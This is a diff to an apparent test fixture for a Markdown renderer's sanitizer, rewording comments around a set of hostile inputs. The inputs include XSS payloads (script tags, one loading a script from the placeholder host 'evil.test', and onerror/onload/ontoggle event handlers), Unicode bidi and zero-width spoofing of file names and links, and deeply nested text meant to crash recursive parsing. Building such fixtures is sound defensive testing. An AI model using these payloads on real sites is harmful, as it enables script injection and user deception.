@@ -1,10 +1,10 @@
 import type { RichNode } from '../../src/shared/text/rich-text.ts';
 
-/** What runs where one of these texts gets through. */
+/** Runs if one of these texts gets through. */
 const run = 'globalThis.hacked=1';
 export const evil = 'https://evil.test';
 
-/** In Markdown, what people try to have a page run, load or look like. */
+/** Markdown with which people try to make a page run code, load something or look different. */
 export const hostileTexts: Readonly<Record<string, string>> = {
   script: `<script>${run}</script><script src="${evil}/x.js"></script>`,
   handlers: `<img src=x onerror="${run}"><svg onload=${run}><details open ontoggle=${run}><b onmouseover='${run}'>b</b>`,
@@ -34,13 +34,13 @@ export const hostileTexts: Readonly<Record<string, string>> = {
     'safe\u202egpj.exe\u202c \u2066hidden\u2069 \u200bzero\u200bwidth\u200d \ufeffmark [\u202etxet](https://evil.test/turned)',
 };
 
-/** The least that would run where a text is shown as markup. */
+/** The shortest text that would run if it were shown as markup. */
 export const hostileLine = `<img src=x onerror="${run}">`;
 
-/** So deep that what recurses over it ends in a fault. */
+/** So deeply nested that recursion over it fails. */
 export const deepText = `${'> '.repeat(3_000)}deep\n\n${'- '.repeat(3_000)}deep\n\n${'*_'.repeat(3_000)}deep\n\n${'['.repeat(3_000)}deep`;
 
-/** What no reader of texts makes, as if it were stored all the same. */
+/** Nodes that no parser produces, as if they were stored anyway. */
 export const hostileNodes = [
   {
     kind: 'paragraph',
